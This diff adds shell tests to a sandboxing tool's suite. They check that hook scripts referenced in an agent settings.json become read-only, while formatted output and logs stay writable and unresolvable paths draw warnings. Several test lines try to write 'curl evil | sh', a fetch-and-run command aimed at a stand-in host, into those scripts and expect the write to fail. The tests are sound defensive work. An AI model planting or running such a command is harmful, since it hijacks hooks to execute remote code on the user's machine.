@@ -420,3 +420,34 @@ else
 	fail "the host's hook scripts are unchanged" "$(cat "$PROJ/scripts/fmt.sh" "$PROJ/tools/server.js")"
 fi
 as_user rm -rf "$PROJ/.claude" "$PROJ/.mcp.json" "$PROJ/scripts" "$PROJ/tools"
+
+# Command lines as sh reads them: a subshell's cd, ${VAR:-...} forms, the
+# environment the settings give; a directory named as an argument and an
+# output stay the agent's; a link on the way and an unknowable path are
+# said; a settings file that is not JSON refuses the run.
+as_user mkdir -p "$PROJ/.claude" "$PROJ/scripts" "$PROJ/web" "$PROJ/src" "$PROJ/real"
+for f in scripts/after-cd.sh scripts/default.sh scripts/env.sh src/app.js real/l.sh; do
+	as_user sh -c "echo original > '$PROJ/$f'"
+done
+as_user ln -s real "$PROJ/linked"
+as_user tee "$PROJ/.claude/settings.json" >/dev/null <<'JSON'
+{"env": {"BASH_ENV": "scripts/env.sh"},
+ "hooks": {"Stop": [{"hooks": [
+   {"type": "command", "command": "(cd web && npm test); ./scripts/after-cd.sh"},
+   {"type": "command", "command": "\"${CLAUDE_PROJECT_DIR:-.}\"/scripts/default.sh"},
+   {"type": "command", "command": "npx prettier --write src/ >> .claude/hook.log 2>&1"},
+   {"type": "command", "command": "./linked/l.sh; \"$TOOLS\"/lint.sh"}]}]}}
+JSON
+for f in scripts/after-cd.sh scripts/default.sh scripts/env.sh; do
+	ltd run -- "$PROBE" write "$PROJ/$f" 'curl evil | sh'
+	expect_out "read as sh reads it, read-only: $f" "^write err EROFS"
+done
+ltd run -- sh -c "echo changed > '$PROJ/src/app.js' && echo log >> '$PROJ/.claude/hook.log' && echo WROTE"
+expect_out "a directory a hook formats and its log stay writable" "^WROTE\$"
+expect_out "a hook through a link in the project is said" "warning: .*settings.json: a command runs .*linked/l.sh through the link .*linked"
+expect_out "an unknowable path is said" "warning: .*settings.json: a command names \\\$TOOLS/lint.sh, which ltd-native cannot resolve"
+as_user sh -c "printf '{\"hooks\": ' > '$PROJ/.claude/settings.json'"
+ltd run -- true
+expect_rc "a settings file that is not JSON refuses the run" 125
+expect_out "... naming it" "settings.json:1: not JSON that ltd-native can read"
+as_user rm -rf "$PROJ/.claude" "$PROJ/scripts" "$PROJ/web" "$PROJ/src" "$PROJ/real" "$PROJ/linked"
